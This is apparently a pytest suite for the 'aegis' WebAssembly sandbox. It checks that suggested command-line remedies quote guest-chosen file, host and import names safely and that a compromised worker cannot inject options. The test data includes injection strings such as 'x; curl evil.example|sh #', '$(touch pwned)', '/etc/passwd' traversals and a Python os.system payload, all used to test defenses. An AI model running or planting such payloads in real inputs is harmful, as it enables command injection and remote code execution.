"""A suggested command contains guest-controlled text only as one quoted word that means exactly that text.

A guest chooses names of files, hosts and imports; a compromised worker writes its whole account itself.
"""

from __future__ import annotations

import ast
import json
import shlex
import shutil
import subprocess
import sys
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aegis import Aegis, FilesystemCapability, LinkError, NetworkCapability, PathGrant, Policy, PolicyError
from aegis.cli.run import _with_remedy
from aegis.errors import CapabilityDenied, GuestError, LimitExceeded
from aegis.policy.filesystem import _reads_as, leaves_its_grant
from aegis.policy.remedies import denied_reading, explained
from aegis.text import literal, shell_word
from aegis.values import Decision
from tests.cli.command import aegis
from tests.isolation.isolated import PLACES, runtime

EVIL = "x; curl evil.example|sh #"
NAMES = [
    "plain", "two words", "it's", 'say "x"', EVIL, "$(touch pwned)", "`touch pwned`", "a\nb", "\x1b[2J", "-rf", "a\\b",
    "\u202egpj", "\u200b", "*", "~", "!!", "é漢", "a=b", "--", "{a,b}", "\x9b", "\u2028",
]  # fmt: skip
LINUX = pytest.mark.skipif(sys.platform != "linux", reason="workers need Linux")
BASH = shutil.which("bash") or ""


def words(remedy: str) -> list[bytes]:
    """Return the words into which a shell splits an option."""
    done = subprocess.run([BASH, "-c", f"printf '%s\\0' {remedy}"], capture_output=True, timeout=30, check=True)
    return done.stdout.split(b"\0")[:-1]


def changing(path: str) -> str:
    """Return a guest that creates a directory; its exit code is the error number."""
    data = "".join(f"\\{byte:02x}" for byte in path.encode())
    return f"""(module
      (import "wasi_snapshot_preview1" "path_create_directory" (func $make (param i32 i32 i32) (result i32)))
      (import "wasi_snapshot_preview1" "proc_exit" (func $exit (param i32)))
      (memory (export "memory") 1) (data (i32.const 0) "{data}")
      (func (export "_start")
        (call $exit (call $make (i32.const 3) (i32.const 0) (i32.const {len(path.encode())})))))"""


def denied(place: str, wat: str, **policy: Any) -> list[Decision]:
    """Return the denials of a program."""
    heard: list[Decision] = []
    with runtime(place, **policy) as made, made.sandbox(made.load_wat(wat), denied=heard.append) as box:
        outcome = box.run("_start")
    assert list(outcome.denials) == heard
    return heard


# -- what a shell makes of a word --------------------------------------------------------------------------------------


@pytest.mark.skipif(not BASH, reason="there is no bash here")
def test_a_word_for_a_shell_is_that_word_and_shows_no_control() -> None:
    """Oracle: bash yields the same bytes, and the printed text has no terminal control character."""
    texts = [*NAMES, "", "\udcff\udc80", "'\x01'", "\\x41\x02", "\x01f", "'" * 3, "a\x7f", "\u3164", "é\x85"]
    shown = [shell_word(text) for text in texts]
    assert all(word.isprintable() for word in shown)
    assert words(" ".join(shown)) == [text.encode("utf-8", "surrogateescape") for text in texts]


@given(st.text())
def test_a_literal_of_python_is_that_text_and_shows_no_control(text: str) -> None:
    shown = literal(text)
    assert ast.literal_eval(shown) == text
    assert shown.isprintable()


@given(st.text(st.characters(exclude_characters="\0"), max_size=20))
@settings(max_examples=300, deadline=None)
def test_every_word_without_hidden_characters_is_read_back_by_posix_shells(text: str) -> None:
    word = shell_word(text)
    assert word.isprintable()
    if not word.startswith("$'"):
        assert shlex.split(word) == [text]


# -- files -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", NAMES)
def test_the_option_for_a_file_names_the_hosts_path_and_helps(place: str, name: str, tmp_path: Path) -> None:
    """Oracle: the shell's words of the remedy, parsed as a grant, are the grant that the guest lacked."""
    if place != PLACES[0] and (sys.platform != "linux" or name not in (EVIL, "a\nb", "it's")):
        pytest.skip("these names are enough for the second place")
    root = tmp_path / name
    root.mkdir()
    (tmp_path / "pwned").mkdir()
    grant = PathGrant(host=str(root), guest="/data")
    heard = denied(place, changing(f"sub/../{name}"), filesystem=FilesystemCapability(paths=(grant,)))
    [decision] = heard
    assert decision.remedy.isprintable()
    assert decision.target.isprintable()
    option, value = words(decision.remedy)
    assert option == b"--allow-write"
    wider = PathGrant.parse(value.decode(), write=True)
    assert wider == PathGrant(host=str(root), guest="/data", write=True)
    wat = changing(name)
    assert denied(place, wat, filesystem=FilesystemCapability(paths=(wider,))) == []
    assert (root / name).is_dir()


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("path", ["../secret", "/etc/passwd", "sub/../../x", "a/../..", "/data/x", "link/x"])
@pytest.mark.parametrize("write", [False, True])
def test_a_path_that_leaves_its_grant_has_no_option_and_says_so(
    place: str, path: str, write: bool, tmp_path: Path
) -> None:
    (tmp_path / "box" / "a").mkdir(parents=True)
    (tmp_path / "box" / "sub").mkdir()
    (tmp_path / "box" / "link").symlink_to("/etc")
    grant = PathGrant(host=str(tmp_path / "box"), guest="/box", write=write)
    [decision] = denied(place, changing(path), filesystem=FilesystemCapability(paths=(grant,)))
    assert decision.remedy == ""
    assert decision.rule.endswith("; no option allows that")
    assert ("/box" in decision.rule) != path.startswith("/")


def test_where_another_grant_forbids_the_wider_one_there_is_no_option(tmp_path: Path) -> None:
    (tmp_path / "inner").mkdir()
    both = FilesystemCapability.read_only(f"{tmp_path}::/data", f"{tmp_path / 'inner'}::/inner")
    [decision] = denied(PLACES[0], changing("new"), filesystem=both)
    assert decision.remedy == ""


def test_the_nearest_grant_is_widened_and_a_file_alone_by_its_own_name(tmp_path: Path) -> None:
    granted = FilesystemCapability.read_only("/h::/", "/one::/a", "/two/f::/a/f", "/r::.")
    explain = partial(explained, Policy(filesystem=granted))
    grants = {
        "/x/y": "/h::/",
        "/ab": "/h::/",
        "/a/x": "/one::/a",
        "/a/f": "/two/f::/a/f",
        "r/x": "/r::.",
        "./x": "/r::.",
    }
    for path, grant in grants.items():
        made = explain(Decision("filesystem", "write", path, False, "read-only", wanted=path))
        assert made.remedy == f"--allow-write {grant}"
    file = FilesystemCapability.read_only("/h/f::/a/f")
    made = explained(Policy(filesystem=file), Decision("filesystem", "write", "/a/f", False, "r", wanted="/a/f"))
    assert made.remedy == "--allow-write /h/f::/a/f"
    for path in ("/a/g", "/a", "x", "../x", ".."):
        assert (
            explained(Policy(filesystem=file), Decision("filesystem", "write", path, False, "r", wanted=path)).remedy
            == ""
        )


def test_a_host_path_that_no_option_can_spell_gets_none(tmp_path: Path) -> None:
    odd = FilesystemCapability(paths=(PathGrant(host="/h::x", guest="/data"),))
    assert (
        explained(
            Policy(filesystem=odd), Decision("filesystem", "write", "/data/f", False, "r", wanted="/data/f")
        ).remedy
        == ""
    )


@given(st.lists(st.sampled_from(["..", ".", "", "a", "b c"]), max_size=8).map("/".join))
def test_a_path_leaves_exactly_when_its_parts_climb_above_where_they_began(path: str) -> None:
    depth = least = 0
    for part in path.split("/"):
        depth += -1 if part == ".." else part not in ("", ".")
        least = min(least, depth)
    assert leaves_its_grant(path) == (least < 0 or path.startswith("/"))


@pytest.mark.skipif(not BASH, reason="there is no bash here")
@pytest.mark.parametrize("how", [[], pytest.param(["--isolate"], marks=LINUX)])
def test_the_line_that_the_command_prints_can_be_followed(how: list[str], tmp_path: Path) -> None:
    (tmp_path / "my data").mkdir()
    (tmp_path / "guest.wat").write_text(changing("new; touch pwned"))
    command = ["run", *how, "--allow-read", "my data::/in", "guest.wat"]
    ended = aegis(*command, cwd=tmp_path)
    assert "denied: write /in/new; touch pwned (filesystem): grant it with " in ended.err
    option = ended.err.rpartition("grant it with ")[2].strip()
    again = aegis("run", *how, *[w.decode() for w in words(option)], "guest.wat", cwd=tmp_path)
    assert (again.code, again.err) == (0, "")
    assert (tmp_path / "my data" / "new; touch pwned").is_dir()
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("how", [[], pytest.param(["--isolate"], marks=LINUX)])
def test_events_and_reports_say_the_same_as_the_line(how: list[str], tmp_path: Path) -> None:
    (tmp_path / "d").mkdir()
    (tmp_path / "guest.wat").write_text(changing("../x; curl evil|sh"))
    ended = aegis("run", *how, "--allow-read", "d::/box", "--events", "log", "guest.wat", cwd=tmp_path)
    said = "denied: write /box/../x; curl evil|sh (filesystem): the path leaves /box; no option allows that\n"
    assert ended.err.startswith(said)
    lines = [json.loads(line) for line in (tmp_path / "log").read_text().splitlines()]
    [checked] = [line for line in lines if line["kind"] == "capability_checked" and not line["allowed"]]
    assert checked["remedy"] == ""
    assert checked["rule"].startswith("the path leaves /box")


# -- the network -------------------------------------------------------------------------------------------------------

HOSTS = [
    "public",
    "private",
    "local",
    "*",
    "*.evil.example",
    "0.0.0.0/0",
    "::/0",
    "10.0.0.0/8",
    EVIL,
    "a b",
    "",
    "-x",
    "a\nb",
]
DENIED = [
    ("look up", "db.example", "db.example", "--allow-net tcp://db.example:PORT"),
    ("look up", "db.example", "::1", "--allow-net 'tcp://[::1]:PORT'"),
    ("look up", "db.example", "GET https://10.0.0.1:443", "--allow-net 'GET https://10.0.0.1'"),
    ("connect to", "tcp://10.0.0.5:5432", "tcp://10.0.0.5:5432", "--allow-net tcp://10.0.0.5:5432"),
    ("connect to", "tcp://[::1]:80", "tcp://[::1]:80", "--allow-net 'tcp://[::1]:80'"),
    ("listen at", "udp://127.0.0.1:53", "udp://127.0.0.1:53", "--listen udp://127.0.0.1:53"),
    ("request", "https://api.example:444", "https://api.example:444", "--allow-net https://api.example:444"),
    ("request", "http://[::1]:80", "PUT http://[::1]:80", "--allow-net 'PUT http://[::1]'"),
]


@pytest.mark.parametrize(("action", "target", "wanted", "remedy"), DENIED)
def test_the_option_for_the_network_is_the_one_host_or_address(
    action: str, target: str, wanted: str, remedy: str
) -> None:
    made = explained(Policy(), Decision("network", action, target, False, "nothing allows it", wanted=wanted))
    assert made.remedy == remedy
    pattern = shlex.split(remedy)[1]
    if "PORT" in pattern:
        with pytest.raises(PolicyError, match="does not end in a port: write :443"):
            NetworkCapability(allow=[pattern])
        if wanted == target:
            assert NetworkCapability(allow=[pattern.replace("PORT", "5432")]).decide_lookup(target)
    assert explained(Policy(), Decision("network", action, target, False, "deny it", wanted=wanted)).remedy == ""


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("action", ["look up", "connect to", "listen at", "request"])
def test_a_guests_host_never_becomes_a_rule_for_more_than_itself(action: str, host: str) -> None:
    for wanted in (
        f"tcp://{host}:*",
        f"https://{host}:443",
        host,
        f"GET https://{host}:1",
        f"{host}:80",
        f"{host}:1-2",
    ):
        made = explained(Policy(), Decision("network", action, wanted, False, "nothing allows it", wanted=wanted))
        assert made.remedy == ""
        assert made.target.isprintable()


@pytest.mark.parametrize("action", ["look up", "connect to", "listen at", "request"])
@pytest.mark.parametrize("ports", ["*", "1-2", "0-65535", "PORT", ""])
def test_a_pattern_of_several_ports_never_becomes_an_option(action: str, ports: str) -> None:
    for wanted in (f"tcp://a.example:{ports}", f"10.0.0.1:{ports}", f"udp://[::1]:{ports}"):
        made = explained(Policy(), Decision("network", action, wanted, False, "nothing allows it", wanted=wanted))
        assert made.remedy == ""


# -- a worker that was taken over --------------------------------------------------------------------------------------

LIES = [
    ["filesystem", "write", "/data/x", False, "rule", f"--allow-write {EVIL}"],
    ["filesystem", "write", EVIL, False, "rule", EVIL],
    ["filesystem", "read", "/data/x", False, "rule", "--allow-read /"],
    ["network", "connect to", "tcp://x", False, "rule", EVIL],
    ["network", "look up", "x", False, "rule", "public"],
    ["clock", "read", "clock", False, "rule", EVIL],
    ["curl", EVIL, EVIL, False, EVIL, EVIL],
    ["filesystem", "write", "/data/x", True, "rule", EVIL],
]


@LINUX
@pytest.mark.parametrize("lie", LIES)
def test_a_lying_worker_writes_no_option(lie: list[Any], tmp_path: Path) -> None:
    from tests.isolation.liar import done, lying, said

    reported: list[Any] = []
    sandbox, liar = lying(
        '(module (func (export "f")))', said(["decided", *lie], done(None)), subscribers=[reported.append],
        filesystem=FilesystemCapability.read_write(f"{tmp_path}::/data"),
    )  # fmt: skip
    with sandbox:
        denials = sandbox.run("f").denials
    checked = [event for event in reported if event.kind == "capability_checked"]
    assert not any(EVIL in event.rule for event in checked if event.capability == "filesystem" and not event.allowed)
    assert not denials or [d.remedy for d in denials] == [event.remedy for event in checked]
    for remedy in (event.remedy for event in checked):
        assert remedy in ("", "--allow-clock")
    liar.discard()


@LINUX
def test_a_lying_workers_errors_carry_no_option() -> None:
    from aegis.isolation.protocol.errors import from_plain

    clock = from_plain(["CapabilityDenied", f"run {EVIL}", {"capability": "clock", "target": EVIL, "remedy": EVIL}])
    assert str(clock) == str(denied_reading("clock"))
    other = from_plain(["CapabilityDenied", f"run {EVIL}", {"capability": EVIL, "target": EVIL, "remedy": EVIL}])
    assert isinstance(other, CapabilityDenied)
    assert (str(other), other.target, other.remedy) == ("denied", "", "")
    link = from_plain(["LinkError", f"run {EVIL}", {"missing": [["a", "b", "()", EVIL]]}])
    assert isinstance(link, LinkError)
    assert EVIL not in str(link)
    assert [missing.remedy for missing in link.missing] == [""]
    limit = from_plain(["LimitExceeded", "over", {"limit": EVIL, "used": 1, "allowed": 1}])
    assert isinstance(limit, GuestError)
    assert _with_remedy(limit) == "over"


def test_a_limit_that_no_option_raises_names_none() -> None:
    assert _with_remedy(LimitExceeded("over", limit="overhead")) == "over"
    assert _with_remedy(LimitExceeded("over", limit="host_bytes")) == "over: raise it with host_bytes or --host-bytes"
    assert _with_remedy(LimitExceeded("over", limit="stdout")) == "over: raise it with stdout or --stdout-limit"


@LINUX
def test_the_line_of_a_denial_has_no_word_of_a_lying_workers_rule() -> None:
    from aegis.cli.run import _CommandRun

    run = _CommandRun.__new__(_CommandRun)
    run.policy, run.denials = Policy(network=NetworkCapability(deny=["evil.example"])), {}
    for rule in (EVIL, "deny x; curl evil|sh", "deny evil.example:*"):
        run.denied(Decision("network", "look up", "x", False, rule))
    for rule in (EVIL, "read-only /data"):
        run.denied(explained(run.policy, Decision("filesystem", "write", "/data/x", False, rule)))
    assert not any("curl" in line for line in run.denials)
    assert len(run.denials) == 3


# -- what links --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [*NAMES, '"}: __import__("os").system("x")', "\0"])
def test_the_remedy_for_a_missing_import_is_python_that_names_it(name: str) -> None:
    data = "".join(f"\\{byte:02x}" for byte in name.encode())
    module = Aegis().load_wat(f'(module (import "{data}" "{data}" (func)))')
    with pytest.raises(LinkError) as caught:
        Aegis().sandbox(module)
    [missing] = caught.value.missing
    assert missing.remedy.isprintable()
    source = missing.remedy.partition("imports=")[2].rpartition("; or ")[0].replace(": function}", ": 1}")
    assert ast.literal_eval(source) == {name: {name: 1}}


def test_a_grant_that_cannot_be_written_as_an_option_gets_none() -> None:
    grant = PathGrant(host="/data", guest="/in", write=True)
    assert not _reads_as("", grant)
    assert _reads_as("/data::/in", grant)


def test_a_name_that_is_too_long_for_a_remedy_is_not_cut_into_another() -> None:
    module = Aegis().load_wat(f'(module (import "env" "{"n" * 1000}" (func)))')
    with pytest.raises(LinkError) as caught:
        Aegis().sandbox(module)
    assert caught.value.missing[0].remedy.startswith("provide it from Python: with imports=; or ")
